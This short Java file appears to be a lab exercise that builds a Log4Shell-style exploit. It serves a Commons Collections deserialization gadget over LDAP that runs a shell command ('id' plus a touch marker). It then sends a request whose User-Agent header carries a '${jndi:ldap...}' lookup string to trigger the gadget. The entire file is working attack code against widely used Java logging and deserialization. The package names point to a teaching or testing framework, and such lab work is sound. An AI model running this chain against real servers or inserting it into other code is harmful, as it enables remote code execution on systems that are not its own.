import whorl.lab.attack.Attacker;
import whorl.lab.attack.Collections3;
import whorl.lab.attack.Ldap;

public class Attack {
  public static void main(String[] args) throws Exception {
    Ldap.serveObject(Collections3.command("sh", "-c", "id; " + Attacker.touch()));
    Attacker.get("/log", "User-Agent", "${jndi:" + Ldap.URL + "/a}");
    Attacker.done();
  }
}
